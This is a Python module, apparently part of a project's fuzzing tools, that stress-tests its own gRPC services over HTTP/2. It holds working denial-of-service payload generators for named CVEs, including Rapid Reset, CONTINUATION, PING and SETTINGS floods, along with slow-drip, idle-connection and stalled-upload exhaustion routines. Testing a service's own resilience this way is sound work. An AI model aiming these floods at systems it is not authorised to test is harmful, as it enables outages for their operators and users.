"""Bytes on the port that no client would send, and connections that no client would keep."""

from __future__ import annotations

import asyncio
import random
import struct
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Final

from tools.fuzz import http2
from tools.fuzz.target import Target, connect

# What one connection of a flood sends.
FRAMES: Final = 3_000
STALLED_STREAMS: Final = 50
_STALLED_BYTES: Final = 15 << 20
_WRITE_SECONDS: Final = 3.0
_ANSWER_SECONDS: Final = 0.5
_PATHS: Final = {
    "manager": "/titan.v1.ManagerService/GetStats",
    "worker": "/titan.v1.TaskService/GetTaskStatus",
}
_READ_WHOLE: Final = {
    "manager": "/titan.v1.ManagerService/ListJobs",
    "worker": "/titan.v1.TaskService/StartTask",
}

Attack = Callable[[Target, random.Random], bytes]


def noise(_: Target, rng: random.Random) -> bytes:
    """Random bytes."""
    return rng.randbytes(rng.choice((1, 10, 100, 10_000, 1_000_000)))


def tls_hello(_: Target, rng: random.Random) -> bytes:
    """The first record of TLS, with what follows cut off or random."""
    body = b"\x03\x03" + rng.randbytes(32) + b"\0\0\x02\x13\x01\x01\0" + rng.randbytes(60)
    hello = b"\x01" + len(body).to_bytes(3) + body
    return b"\x16\x03\x01" + struct.pack(">H", len(hello)) + hello[: rng.randint(5, len(hello))]


def http1(_: Target, rng: random.Random) -> bytes:
    """What a browser, a proxy or a scanner would say."""
    return rng.choice(
        (
            b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\n",
            b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFF\r\n",
            b"GET / HTTP/1.1\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n\r\n",
            b"X-A: " + b"y" * 1_000_000,
        )
    )


def garbage_frames(_: Target, rng: random.Random) -> bytes:
    """Frames of any kind, length, stream and content, of which the lengths are right or not."""
    frames = []
    for _number in range(50):
        made = http2.frame(
            rng.randint(0, 12), rng.randrange(256), rng.choice((0, 1, 3, 2, 0x7FFF_FFFF, -1)),
            rng.randbytes(rng.choice((0, 1, 4, 5, 8, 100, 16_384, 20_000))),
        )  # fmt: skip
        frames.append(made[: rng.randint(9, len(made))] if rng.random() < 0.1 else made)
    return greeting() + b"".join(frames)


def settings_flood(_: Target, rng: random.Random) -> bytes:
    """Each has to be acknowledged (CVE-2019-9515); with values out of range among them."""
    some = [
        struct.pack(">HI", rng.randint(1, 8), rng.choice((0, 1, 4_096, 0x7FFF_FFFF, 0xFFFF_FFFF)))
        for _ in range(3)
    ]
    few = http2.frame(http2.SETTINGS, 0, 0, rng.choice((b"", some[0], b"".join(some))))
    return greeting() + few * FRAMES


def ping_flood(_: Target, rng: random.Random) -> bytes:
    """Each has to be answered (CVE-2019-9512)."""
    return greeting() + http2.frame(http2.PING, 0, 0, rng.randbytes(8)) * FRAMES


def rapid_reset(target: Target, _: random.Random) -> bytes:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    block = _call(target, _PATHS[target.name])
    frames = []
    for number in range(FRAMES):
        stream = 2 * number + 1
        frames.append(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block))
        frames.append(http2.frame(http2.RST_STREAM, 0, stream, (8).to_bytes(4)))
    return greeting() + b"".join(frames)


def many_streams(target: Target, _: random.Random) -> bytes:
    """Streams that are opened, and of which nothing more comes."""
    block = _call(target, _PATHS[target.name])
    return greeting() + b"".join(
        http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * number + 1, block)
        for number in range(FRAMES)
    )


def anybody_s_streams(target: Target, __: random.Random) -> bytes:
    """Streams that need no token, and have no end: whoever watches the health."""
    block = http2.call("/grpc.health.v1.Health/Watch", scheme=_scheme(target))
    nothing = http2.message(b"")
    return greeting() + b"".join(
        http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * number + 1, block)
        + http2.frame(http2.DATA, http2.END_STREAM, 2 * number + 1, nothing)
        for number in range(FRAMES)
    )


def huge_headers(target: Target, rng: random.Random) -> bytes:
    """Fields over any limit, in one frame after the other."""
    block = _call(target, _PATHS[target.name])
    block += http2.fields(tuple((b"x-%d" % i, b"y" * 15_000) for i in range(rng.randint(1, 40))))
    return greeting() + _headers_in_frames(block, ends=True)


def continuation_flood(target: Target, _: random.Random) -> bytes:
    """Headers that never end (CVE-2024-27316 and its like)."""
    block = _call(target, _PATHS[target.name])
    more = http2.fields(((b"x", b"y" * 16_000),))
    flood = http2.frame(http2.CONTINUATION, 0, 1, more) * 400
    return greeting() + _headers_in_frames(block, ends=False) + flood


def window_overflow(target: Target, _: random.Random) -> bytes:
    """Windows over their most, and of nothing."""
    block = _call(target, _PATHS[target.name])
    update = http2.frame(http2.WINDOW_UPDATE, 0, 1, (0x7FFF_FFFF).to_bytes(4))
    nothing = http2.frame(http2.WINDOW_UPDATE, 0, 1, bytes(4))
    head = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block)
    return greeting() + head + update * 100 + nothing * 100


def wrong_lengths(target: Target, rng: random.Random) -> bytes:
    """Messages that promise another length than comes, or to be compressed."""
    block = _call(target, _PATHS[target.name])
    promised = rng.choice((0, 1, 100, (16 << 20) + 1, 0xFFFF_FFFF))
    data = http2.message(rng.randbytes(50), promised=promised)
    if rng.random() < 0.3:
        data = b"\x01" + data[1:]
    return (
        greeting()
        + http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block)
        + http2.frame(http2.DATA, http2.END_STREAM, 1, data)
    )


ATTACKS: Final[dict[str, Attack]] = {
    each.__name__.replace("_", "-"): each
    for each in (
        noise, tls_hello, http1, garbage_frames, settings_flood, ping_flood, rapid_reset,
        many_streams, anybody_s_streams, huge_headers, continuation_flood, window_overflow,
        wrong_lengths,
    )
}  # fmt: skip


async def attack(target: Target, name: str, rng: random.Random, connections: int) -> Counter[str]:
    """So many connections that each send that, read what comes and are closed or torn."""
    found: Counter[str] = Counter()

    async def one() -> None:
        found[await _send(target, ATTACKS[name](target, rng), tears=rng.random() < 0.3)] += 1

    await run_all([one] * connections)
    return found


async def stall_messages(target: Target, connections: int, hold: asyncio.Event) -> int:
    """Calls whose message of 15 MiB never comes to its end, until `hold` is set.

    Returns how many bytes the server took.
    """
    taken = 0

    async def one() -> None:
        nonlocal taken
        with suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await connect(target)
            windows = _Windows(STALLED_STREAMS)
            reading = asyncio.create_task(windows.follow(reader))
            try:
                writer.write(greeting() + _begin_messages(target))
                while not hold.is_set() and not reading.done():
                    for number in range(STALLED_STREAMS):
                        size = windows.take(2 * number + 1)
                        if size:
                            taken += size
                            writer.write(http2.frame(http2.DATA, 0, 2 * number + 1, bytes(size)))
                    await writer.drain()
                    await asyncio.sleep(0.01)
            finally:
                reading.cancel()
                await asyncio.gather(reading, return_exceptions=True)
                # What is not sent yet never is.
                writer.transport.abort()

    await run_all([one] * connections)
    return taken


def _begin_messages(target: Target) -> bytes:
    block = _call(target, _READ_WHOLE[target.name])
    # A byte of it stays away.
    first = http2.message(b"", promised=_STALLED_BYTES + 1)
    return b"".join(
        http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * number + 1, block)
        + http2.frame(http2.DATA, 0, 2 * number + 1, first)
        for number in range(STALLED_STREAMS)
    )


class _Windows:
    """How much the other side takes, of all and of each stream (RFC 9113, 5.2)."""

    def __init__(self, streams: int) -> None:
        begun = len(http2.message(b""))
        self._all = http2.WINDOW_BYTES - streams * begun
        self._initial = http2.WINDOW_BYTES
        self._of = {2 * number + 1: -begun for number in range(streams)}
        self._left = {2 * number + 1: _STALLED_BYTES for number in range(streams)}

    def take(self, stream: int) -> int:
        """How many bytes may be sent there now; they count as sent."""
        room = min(self._all, self._initial + self._of[stream], self._left[stream], 16_384)
        if room <= 0:
            return 0
        self._all -= room
        self._of[stream] -= room
        self._left[stream] -= room
        return room

    async def follow(self, reader: asyncio.StreamReader) -> None:
        """Until the other side closes. Raises IncompleteReadError, OSError."""
        while True:
            head = await reader.readexactly(9)
            payload = await reader.readexactly(int.from_bytes(head[:3]))
            kind, stream = head[3], int.from_bytes(head[5:])
            if kind == http2.WINDOW_UPDATE and stream in self._of:
                self._of[stream] += int.from_bytes(payload)
            elif kind == http2.WINDOW_UPDATE and not stream:
                self._all += int.from_bytes(payload)
            elif kind == http2.SETTINGS:
                for name, value in struct.iter_unpack(">HI", payload):
                    if name == http2.INITIAL_WINDOW_SIZE:
                        self._initial = value
            elif kind == http2.RST_STREAM:
                self._left[stream] = 0


async def keep_idle(target: Target, count: int, hold: asyncio.Event, opened: Counter[str]) -> None:
    """So many connections that say nothing, or hello and then nothing, until `hold` is set.

    Those that the server closes are made again. `opened` has how many are open, and were closed.
    """
    over = asyncio.create_task(hold.wait())

    async def one(number: int) -> None:
        while not hold.is_set():
            try:
                reader, writer = await connect(target)
            except OSError:
                await asyncio.wait({over}, timeout=1.0)
                continue
            opened["open"] += 1
            if number % 2:
                writer.write(greeting())
            reading = asyncio.create_task(read_all(reader))
            try:
                await asyncio.wait({reading, over}, return_when=asyncio.FIRST_COMPLETED)
                opened["closed by it"] += reading.done()
            finally:
                opened["open"] -= 1
                reading.cancel()
                writer.close()

    async with asyncio.TaskGroup() as group:
        for number in range(count):
            group.create_task(one(number))
            if number % 50 == 49:
                # A listen queue has an end.
                await asyncio.sleep(0.02)


async def drip(target: Target, count: int, hold: asyncio.Event) -> None:
    """Connections on which one byte comes each second, of what would be a call in the end."""
    block = _call(target, _PATHS[target.name])
    text = greeting() + http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block)

    async def one(start: int) -> None:
        with suppress(OSError):
            _reader, writer = await connect(target)
            try:
                writer.write(text[:start])
                for byte in text[start:]:
                    writer.write(bytes((byte,)))
                    await writer.drain()
                    with suppress(TimeoutError):
                        async with asyncio.timeout(1.0):
                            await hold.wait()
                    if hold.is_set():
                        return
            finally:
                writer.transport.abort()

    async with asyncio.TaskGroup() as group:
        for number in range(count):
            group.create_task(one(number % len(text)))


def greeting() -> bytes:
    """How a client begins (RFC 9113, 3.4)."""
    return http2.PREFACE + http2.frame(http2.SETTINGS)


def _scheme(target: Target) -> str:
    return "http" if target.tls is None else "https"


def _call(target: Target, path: str) -> bytes:
    return http2.call(path, target.metadata, scheme=_scheme(target))


def _headers_in_frames(block: bytes, *, ends: bool) -> bytes:
    pieces = [block[place : place + 16_000] for place in range(0, len(block), 16_000)]
    kinds = [http2.HEADERS, *[http2.CONTINUATION] * (len(pieces) - 1)]
    return b"".join(
        http2.frame(kind, http2.END_HEADERS if ends and i == len(pieces) - 1 else 0, 1, piece)
        for i, (kind, piece) in enumerate(zip(kinds, pieces, strict=True))
    )


async def _send(target: Target, data: bytes, *, tears: bool) -> str:
    """What became of the connection."""
    try:
        reader, writer = await connect(target)
    except OSError:
        return "refused"
    reading = asyncio.create_task(read_all(reader))
    result = "cut"
    try:
        writer.write(data)
        async with asyncio.timeout(_WRITE_SECONDS):
            await writer.drain()
        if not tears:
            done, _ = await asyncio.wait({reading}, timeout=_ANSWER_SECONDS)
            result = "dropped" if done else "kept"
        else:
            result = "torn"
    except TimeoutError:
        result = "not read"
    except OSError:
        result = "dropped"
    finally:
        reading.cancel()
        if tears:
            writer.transport.abort()
        writer.close()
    return result


async def read_all(reader: asyncio.StreamReader) -> None:
    """Until the other side closes, or breaks off."""
    with suppress(OSError):
        while await reader.read(65_536):
            pass


async def run_all(calls: list[Callable[[], Awaitable[None]]]) -> None:
    """All of them at once."""

    async def run(call: Callable[[], Awaitable[None]]) -> None:
        await call()

    async with asyncio.TaskGroup() as group:
        for call in calls:
            group.create_task(run(call))
